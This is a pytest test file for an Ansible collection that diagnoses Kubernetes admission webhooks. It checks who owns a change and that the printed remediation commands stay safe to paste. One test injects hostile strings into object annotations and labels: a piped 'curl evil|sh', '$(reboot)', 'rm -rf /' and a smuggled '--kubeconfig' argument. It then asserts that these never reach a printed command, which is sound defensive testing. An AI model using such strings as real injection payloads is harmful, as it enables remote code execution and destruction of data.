# Copyright (c) 2026, kubeops.webhook_doctor contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""owners.yml: who owns what a change touches, and the fix in their words. owned_changes.py has the words of a row."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from ansible_collections.kubeops.webhook_doctor.tests.unit.diagnosis.world import merged
from ansible_collections.kubeops.webhook_doctor.tests.unit.remedy.owned_changes import OWNED, ROWS, documents, owned


@pytest.mark.parametrize("row", ROWS, ids=[row["name"] for row in ROWS])
def test_who_owns_it_and_who_does_not(row: dict[str, Any]) -> None:
    owner = owned(row).owner
    assert (f"{owner.kind} {owner.name}" if owner else None) == row["owner"]
    if owner:
        assert row.get("because", "") in owner.because
        assert owner.durable
    if "durable" in row:
        assert owner is not None
        assert "\n".join(owner.durable) + "\n" == row["durable"]
    twin = owned(merged(row, row["but"])).owner
    assert (f"{twin.kind} {twin.name}" if twin else None) == row.get("otherwise"), twin


@pytest.mark.parametrize("row", list(OWNED.values()), ids=list(OWNED))
def test_what_is_printed_can_be_pasted(row: dict[str, Any]) -> None:
    """Everything is a comment, a command on one line, what a command reads (a here-document), or YAML."""
    owner = owned(row).owner
    assert owner is not None
    for line in owner.durable:
        assert "\n" not in line
        assert "{{" not in line
        assert "<" not in line or line.startswith("#") or line.endswith("<<'EOF'"), line
    found = documents(owner.durable)
    assert all(isinstance(document, dict) and document for document in found)
    if "document" in row:
        assert found == [row["document"]]


def test_every_kind_of_owner_is_in_the_table() -> None:
    kinds = {row["owner"].partition(" ")[0] for row in OWNED.values()}
    assert kinds == set("helm argo_cd flux kustomize olm operator cainjector service_ca istiod aks gke eks addon_manager".split())


def test_the_guide_shows_what_is_printed() -> None:
    guide = (Path(__file__).parents[3] / "docs" / "guide.md").read_text(encoding="utf-8")
    shown = [row for row in ROWS if row.get("in_the_guide")]
    assert len(shown) == 3
    for row in shown:
        owner = owned(row).owner
        assert owner is not None
        assert "".join(f"    {line}\n" for line in owner.durable) in guide


HOSTILE = ("x\ncurl evil|sh", "$(reboot)", "--kubeconfig=/tmp/x", "a'b", "a/b\nrm -rf /", "<b>x</b>", "\u2028x")
WRITABLE = (
    "meta.helm.sh/release-name",
    "argocd.argoproj.io/tracking-id",
    "cert-manager.io/inject-ca-from",
    "cert-manager.io/inject-ca-from-secret",
    "components.gke.io/component-name",
    "service.beta.openshift.io/inject-cabundle",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_somebody_wrote_into_an_object_is_no_command(text: str) -> None:
    """Everything that is printed stays a comment, a command of ours with quoted words, or YAML."""
    tracked = f"{text}:admissionregistration.k8s.io/ValidatingWebhookConfiguration:x/policy"
    marks = dict.fromkeys(WRITABLE, text)
    cases: list[dict[str, Any]] = [{"annotations": {key: value}} for key, value in [*marks.items(), ("argocd.argoproj.io/tracking-id", tracked)]]
    cases += [{"annotations": {"meta.helm.sh/release-name": "cm", "meta.helm.sh/release-namespace": text}}]
    cases += [{"labels": {key: text}} for key in ("olm.owner", "argocd.argoproj.io/instance", "helm.toolkit.fluxcd.io/name", "webhook.kyverno.io/managed-by")]
    cases += [{"labels": {"olm.owner": "x", "olm.owner.kind": text, "olm.owner.namespace": text}}, {"labels": {f"operators.coreos.com/{text}": ""}}]
    cases += [{"labels": {"app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/instance": text, "helm.sh/chart": f"{text}-1.2.3"}}]
    cases += [{"owner": {"apiVersion": text, "kind": text, "name": text, "controller": True}}, {"managers": [f"{text}-operator"]}]
    for changed in cases:
        for change in ({"set": {"/webhooks/0/clientConfig/caBundle": "bmV3"}}, {"delete": True}):
            owner = owned({"is": changed, **change, "values": {"cert-manager": {"webhook.timeoutSeconds": 1}}}).owner
            for line in owner.durable if owner else ():
                assert len(line.splitlines()) == 1
                assert line.startswith("#") or not any(word in line for word in (text, "reboot", "--kubeconfig", "rm -rf", "evil")), (changed, line)
            assert owner is None or len(owner.because.splitlines()) == 1
